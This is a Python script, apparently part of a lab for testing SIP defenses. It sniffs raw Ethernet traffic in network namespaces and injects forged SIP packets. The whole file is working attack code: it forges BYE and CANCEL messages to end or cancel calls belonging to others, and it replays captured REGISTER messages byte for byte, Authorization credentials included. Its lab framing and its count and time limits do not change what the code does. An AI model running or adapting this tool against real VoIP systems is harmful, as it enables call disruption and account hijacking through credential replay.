"""An attacker who sees the wire: forges a BYE or CANCEL for calls that are not his, or
sends a registration that he saw again.

Usage: attacker.py INTERFACE bye|cancel|replay COUNT [ADDRESS]

ADDRESS is what it sends from (198.18.0.66). It ends by itself after COUNT, or 60 seconds.
For the lab's own network namespaces: it writes Ethernet frames.
"""
import re
import socket
import struct
import sys
import time


def checksum(octets):
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(mac, src, dst, sport, dport, payload, ident):
    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
    length = 8 + len(payload)
    pseudo = src + dst + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0)
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp + payload) or 0xFFFF)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, ident, 0, 61, 17, 0) + src + dst
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return mac + b"\x02\0\0\0\0\x66" + b"\x08\0" + ip + udp + payload


def packets(tap, until):
    """UDP datagrams of IPv4 on the wire: MACs, addresses, ports, payload."""
    while time.time() < until:
        tap.settimeout(max(0.01, until - time.time()))
        try:
            octets = tap.recv(65535)
        except socket.timeout:
            return
        if octets[12:14] != b"\x08\0" or octets[23] != 17:
            continue
        ip = 14 + (octets[14] & 15) * 4
        sport, dport, length = struct.unpack("!HHH", octets[ip:ip + 6])
        yield (octets[0:6], octets[6:12], socket.inet_ntoa(octets[26:30]), socket.inet_ntoa(octets[30:34]),
               sport, dport, octets[ip + 8:ip + length])


def header(text, name):
    m = re.search(rf"^{name}:\s*(.*?)\r$", text, re.M | re.I)
    return m[1] if m else ""


def bye(p, seen):
    """The ACK of a 2xx on its last hop: a BYE to where it goes, as if the caller had sent it."""
    dst_mac, _, _, dst, _, dport, payload = p
    text = payload.decode("latin-1")
    if not text.startswith("ACK ") or ";tag=" not in header(text, "To") or header(text, "Route"):
        return None
    if len(re.findall(r"^Via:", text, re.M)) < 2 or header(text, "Call-ID") in seen:
        return None
    seen.add(header(text, "Call-ID"))
    uri = text.split(" ")[1]
    forged = (f"BYE {uri} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.0.66:5060;branch=z9hG4bKforged{len(seen)}\r\n"
              f"Max-Forwards: 70\r\nFrom: {header(text, 'From')}\r\nTo: {header(text, 'To')}\r\n"
              f"Call-ID: {header(text, 'Call-ID')}\r\nCSeq: 50 BYE\r\nContent-Length: 0\r\n\r\n")
    return dst_mac, dst, dport, forged.encode("latin-1")


def cancel(p, seen):
    """A call that rings at the caller: a CANCEL to the proxy, with the INVITE's own branch."""
    _, src_mac, src, _, sport, _, payload = p
    text = payload.decode("latin-1")
    if not text.startswith("SIP/2.0 180") or "INVITE" not in header(text, "CSeq"):
        return None
    if len(re.findall(r"^Via:", text, re.M)) != 1 or header(text, "Call-ID") in seen:
        return None
    seen.add(header(text, "Call-ID"))
    to = re.sub(r";tag=[^;]*", "", header(text, "To"))
    uri = re.search(r"<([^>]*)>", to)[1]
    via = re.sub(r";(received|rport)(=[^;]*)?", "", header(text, "Via"))
    forged = (f"CANCEL {uri} SIP/2.0\r\nVia: {via}\r\nMax-Forwards: 70\r\nFrom: {header(text, 'From')}\r\n"
              f"To: {to}\r\nCall-ID: {header(text, 'Call-ID')}\r\nCSeq: {header(text, 'CSeq').split()[0]} CANCEL\r\n"
              f"Content-Length: 0\r\n\r\n")
    return src_mac, src, sport, forged.encode("latin-1")


def replay(p, seen):
    """A REGISTER with credentials, octet for octet."""
    dst_mac, _, _, dst, _, dport, payload = p
    text = payload.decode("latin-1")
    if not text.startswith("REGISTER ") or not header(text, "Authorization") or payload in seen:
        return None
    seen.add(payload)
    return dst_mac, dst, dport, payload


def main():
    interface, mode, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    address = sys.argv[4] if len(sys.argv) > 4 else "198.18.0.66"
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((interface, 0))
    print("ready", flush=True)
    seen, sent = set(), 0
    for p in packets(tap, time.time() + 60):
        if p[2] == address:
            continue
        forged = {"bye": bye, "cancel": cancel, "replay": replay}[mode](p, seen)
        if forged:
            mac, dst, port, payload = forged
            time.sleep(0.3)
            tap.send(frame(mac, address, dst, 5060, port, payload, 0x6600 + sent))
            sent += 1
        if sent == count:
            break
    print("sent", sent, flush=True)


if __name__ == "__main__":
    main()
